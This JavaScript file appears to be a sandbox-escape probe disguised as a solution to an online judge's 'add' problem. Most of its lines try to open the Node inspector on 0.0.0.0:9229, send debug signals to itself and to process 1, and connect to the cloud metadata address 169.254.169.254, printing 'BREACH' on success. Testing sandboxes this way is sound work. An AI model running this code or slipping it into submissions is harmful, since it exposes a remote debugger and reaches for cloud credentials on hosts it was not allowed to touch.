// A debugger for whoever connects.
// problem: add
// verdicts: AC
const inspector = require("inspector");
try { inspector.open(9229, "0.0.0.0"); if (inspector.url()) console.log("BREACH: " + inspector.url()); } catch (error) {}
try { process.kill(process.pid, "SIGUSR1"); } catch (error) {}
try { process.kill(1, "SIGUSR1"); console.log("BREACH: signals process 1"); } catch (error) {}
try { process._debugProcess(process.pid); } catch (error) {}
for (const [host, port] of [["127.0.0.1", 9229], ["169.254.169.254", 80]]) {
    const socket = require("net").connect(port, host, () => console.log("BREACH: connected to " + host));
    socket.on("error", () => {});
    socket.unref();
}
var add = (a, b) => a + b;
